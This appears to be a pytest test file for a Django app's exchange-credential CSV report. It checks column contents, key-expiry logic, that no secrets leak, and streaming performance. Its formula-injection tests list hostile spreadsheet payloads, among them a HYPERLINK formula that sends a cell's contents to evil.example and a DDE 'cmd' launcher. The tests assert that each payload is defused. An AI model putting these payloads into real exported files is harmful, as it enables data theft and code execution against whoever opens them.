"""The credential report: what each line says, and that no cell of it runs."""

from __future__ import annotations

import csv
import gc
import io
import tracemalloc
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.db import connection as database
from django.test.utils import CaptureQueriesContext

from backfuture.accounts.models import User
from connections import replacing, reports
from connections.models import Connection, Credential, Exchange, Finding
from tests import making, many

MADE = datetime(2026, 9, 1, 8, 30, tzinfo=UTC)


def line(connection: Connection) -> dict[str, str]:
    [cells] = reports.rows(Connection.objects.filter(pk=connection.pk))
    return dict(zip(reports.COLUMNS, cells, strict=True))


def update(connection: Connection, **fields: Any) -> None:
    Connection.objects.filter(pk=connection.pk).update(**fields)


def found(connection: Connection, rule: str, state: str = "open") -> Finding:
    until = MADE if state == "snoozed" else None
    return Finding.objects.create(
        connection=connection, rule=rule, severity=20, state=state, snoozed_until=until
    )


def test_columns_are_those_of_a_credential_report() -> None:
    assert ", ".join(reports.COLUMNS) == (
        "owner, connection, exchange, fingerprint, created, rotated, last tested, last ok, "
        "last used, active strategies, read, trade, futures, transfer, withdraw, ip restricted, "
        "expires, source of expiry, open findings"
    )


def test_a_line_says_what_is_known(connection: Connection) -> None:
    making.finish(connection, making.report())
    moments = {name: MADE + timedelta(days=n) for n, name in enumerate(["tested_at", "last_ok_at"])}
    update(connection, created_at=MADE, key_expires_at=MADE + timedelta(days=90), **moments)
    connection.credentials.update(last_used_at=MADE + timedelta(days=2))
    for name, enabled in {"one": True, "two": True, "off": False}.items():
        many.strategy(connection, name, enabled=enabled)
    found(connection, "old")
    found(connection, "unused", "snoozed")
    assert line(connection) == {
        "owner": "trader@example.com",
        "connection": "MEXC Spot Main",
        "exchange": "mexc",
        "fingerprint": connection.credentials.get().fingerprint,
        "created": "2026-09-01T08:30:00Z",
        "rotated": "",
        "last tested": "2026-09-01T08:30:00Z",
        "last ok": "2026-09-02T08:30:00Z",
        "last used": "2026-09-03T08:30:00Z",
        "active strategies": "2",
        "read": "yes",
        "trade": "yes",
        "futures": "no",
        "transfer": "no",
        "withdraw": "no",
        "ip restricted": "yes",
        "expires": "2026-11-30T08:30:00Z",
        "source of expiry": "exchange",
        "open findings": "old unused",
    }


def test_what_nobody_knows_is_unknown_or_empty(connection: Connection) -> None:
    update(connection, created_at=MADE)
    said = line(connection)
    rights = ("read", "trade", "futures", "transfer", "withdraw", "ip restricted")
    assert {said[name] for name in rights} == {"unknown"}
    dates = ("rotated", "last tested", "last ok", "last used", "expires", "source of expiry")
    assert {said[name] for name in (*dates, "open findings")} == {""}


def test_a_connection_without_a_key_has_a_line(connection: Connection) -> None:
    connection.credentials.update(state="retired", sealed=None)
    assert line(connection)["fingerprint"] == ""


def test_a_replaced_key_was_rotated_when_the_new_one_was_entered(connection: Connection) -> None:
    making.finish(connection, making.report())
    replacing.replace_key(connection, by=connection.owner, credentials=making.credentials())
    making.finish(connection, making.report())
    new = connection.credentials.get(state=Credential.State.ACTIVE)
    Credential.objects.filter(pk=new.pk).update(created_at=datetime(2027, 1, 2, tzinfo=UTC))
    said = line(connection)
    assert (said["rotated"], said["fingerprint"]) == ("2027-01-02T00:00:00Z", new.fingerprint)


def test_a_new_key_still_on_trial_is_not_the_key_in_use(connection: Connection) -> None:
    making.finish(connection, making.report())
    replacing.replace_key(connection, by=connection.owner, credentials=making.credentials())
    said = line(connection)
    used = connection.credentials.get(state=Credential.State.ACTIVE)
    assert (said["rotated"], said["fingerprint"]) == ("", used.fingerprint)


@pytest.mark.parametrize(
    ("fields", "expires", "source"),
    [
        ({"ip_restricted": False, "key_created_at": MADE}, "2026-11-30T08:30:00Z", "computed"),
        ({"ip_restricted": True, "key_created_at": MADE}, "", ""),
        ({"ip_restricted": None, "key_created_at": MADE}, "", ""),
        (
            {"ip_restricted": False, "key_created_at": MADE, "key_expires_at": MADE},
            "2026-09-01T08:30:00Z",
            "exchange",
        ),
    ],
)
def test_source_of_expiry(
    connection: Connection, fields: dict[str, Any], expires: str, source: str
) -> None:
    """MEXC: a key without IP addresses ends after 90 days."""
    update(connection, **fields)
    said = line(connection)
    assert (said["expires"], said["source of expiry"]) == (expires, source)


@pytest.mark.parametrize(("later", "source"), [(-1, "computed"), (0, "")])
def test_a_good_test_after_a_computed_end_proves_it_wrong(
    connection: Connection, later: int, source: str
) -> None:
    worked = MADE + timedelta(days=90, seconds=later)
    update(connection, ip_restricted=False, key_created_at=MADE, last_ok_at=worked)
    assert line(connection)["source of expiry"] == source


def test_age_counts_from_when_it_was_entered_if_the_exchange_does_not_say(
    connection: Connection,
) -> None:
    update(connection, ip_restricted=False)
    connection.credentials.update(created_at=MADE)
    assert line(connection)["expires"] == "2026-11-30T08:30:00Z"


def test_exchange_that_ends_no_keys_has_no_expiry(trader: User, kucoin: Exchange) -> None:
    other = making.connection(trader, kucoin, "KuCoin")
    update(other, ip_restricted=False, key_created_at=MADE)
    assert (line(other)["expires"], line(other)["source of expiry"]) == ("", "")


@pytest.mark.parametrize("state", Finding.State.values)
def test_open_findings_are_those_nobody_decided_to_leave(
    connection: Connection, state: str
) -> None:
    found(connection, "old", state)
    expected = "" if state in {"suppressed", "resolved"} else "old"
    assert line(connection)["open findings"] == expected


def test_all_of_them_by_owner_and_name(
    connection: Connection, stranger: User, mexc: Exchange, trader: User
) -> None:
    making.connection(stranger, mexc, "Strange")
    making.connection(trader, mexc, "A first")
    assert [cells[:2] for cells in reports.rows()] == [
        ["stranger@example.com", "Strange"],
        ["trader@example.com", "A first"],
        ["trader@example.com", "MEXC Spot Main"],
    ]


def read_back(cells: Iterable[str]) -> list[list[str]]:
    text = "".join(reports.csv_parts([list(cells)]))
    return list(csv.reader(io.StringIO(text, newline="")))


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tno formula",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=1+1";=1+1',
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_formula_is_kept_as_text(typed: str) -> None:
    for place in range(3):
        cells = ["a", "b", "c"]
        cells[place] = typed
        _, parsed = read_back(cells)
        assert parsed[place][0] == "'"
        assert parsed[place].replace("'", "") == typed.replace("'", "")
        assert [cell for n, cell in enumerate(parsed) if n != place] == [
            cell for n, cell in enumerate("abc") if n != place
        ]


@pytest.mark.parametrize("typed", ["a;=1", 'a";=1', "a\t=1", "a\n=1", "a; ＝1", "a\r\n@B"])
def test_what_begins_a_cell_elsewhere_is_defused_too(typed: str) -> None:
    """Where the list separator of the country is a semicolon, and by text import."""
    parsed = read_back([typed])[1][0]
    for end in ";\t\r\n":
        parsed = parsed.replace(end, "\n")
    assert not [part for part in parsed.split("\n") if part.lstrip()[:1] in set("=+-@＝")]
    assert "'" in parsed


@pytest.mark.parametrize(
    "typed",
    [
        "",
        "MEXC Spot Main",
        "a=b",
        "3-5",
        "o'hara+tag@example.com",
        "née",
        "比特币",
        'say "so"',
        "2026-09-01T08:30:00Z",
        "a, b",
        "50%",
        "'quoted'",
        "Ωmega",
    ],
)
def test_other_text_is_as_it_was(typed: str) -> None:
    assert read_back([typed]) == [list(reports.COLUMNS), [typed]]


def test_every_cell_is_quoted() -> None:
    assert reports.csv_parts([["a", "1"]]).__next__().startswith('"owner","connection"')
    assert list(reports.csv_parts([["a", "1"]]))[1] == '"a","1"\r\n'


def test_a_name_that_is_a_formula_is_defused_in_the_file(connection: Connection) -> None:
    update(connection, name="=1+1")
    parsed = list(csv.reader(io.StringIO("".join(reports.csv_parts(reports.rows())))))
    assert parsed[1][1] == "'=1+1"


def test_no_byte_of_a_key_is_in_it(trader: User, mexc: Exchange) -> None:
    key = making.credentials()
    made = making.connection(trader, mexc, "Sealed", key)
    token = bytes(made.credentials.get().sealed.token(None)).decode()  # type: ignore[union-attr]
    text = "".join(reports.csv_parts(reports.rows()))
    for value in (key.api_key, key.secret, token):
        assert value not in text


class TestLength:
    @pytest.fixture
    def fill(self, trader: User, mexc: Exchange) -> Any:
        def rows(number: int) -> None:
            before = Connection.objects.count()
            made = Connection.objects.bulk_create(
                Connection(owner=trader, exchange=mexc, name=f"Number {before + n}")
                for n in range(number)
            )
            Credential.objects.bulk_create(
                Credential(connection=each, sealed=None, hint="abcd", fingerprint=f"{n:064}")
                for n, each in enumerate(made)
            )
            Finding.objects.bulk_create(
                Finding(connection=each, rule="old", severity=20) for each in made
            )

        return rows

    def test_queries_do_not_grow_within_a_chunk(self, fill: Any) -> None:
        fill(3)
        with CaptureQueriesContext(database) as few:
            list(reports.rows())
        fill(60)
        with CaptureQueriesContext(database) as many:
            list(reports.rows())
        assert len(few) == len(many) == 4

    def test_memory_does_not_grow_with_the_lines(self, fill: Any, monkeypatch: Any) -> None:
        monkeypatch.setattr(reports, "CHUNK", 50)

        def peak() -> int:
            gc.collect()
            gc.freeze()  # so that it is quick to look for what the lines leave behind
            tracemalloc.start()
            for _part in reports.csv_parts(reports.rows()):
                gc.collect()
            gc.unfreeze()
            top = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            return top

        fill(200)
        peak()  # what is loaded the first time
        few = peak()
        fill(2_000)
        assert peak() < few * 1.5

    def test_it_begins_before_all_is_read(self, fill: Any, monkeypatch: Any) -> None:
        monkeypatch.setattr(reports, "CHUNK", 50)
        fill(200)
        parts = reports.csv_parts(reports.rows())
        with CaptureQueriesContext(database) as queries:
            next(parts)
            first = next(parts)
        assert first.count("\r\n") == 50
        assert len(queries) == 4
        assert len(list(parts)) == 3
